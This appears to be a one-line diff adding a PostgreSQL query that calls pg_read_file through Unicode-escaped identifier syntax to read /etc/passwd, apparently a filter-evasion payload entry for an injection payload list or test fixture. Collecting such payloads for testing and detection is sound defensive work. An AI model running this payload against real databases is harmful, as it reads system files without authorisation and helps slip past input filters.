@@ -1,0 +1,1 @@
+SELECT U&"pg_read_file"('/etc/passwd')
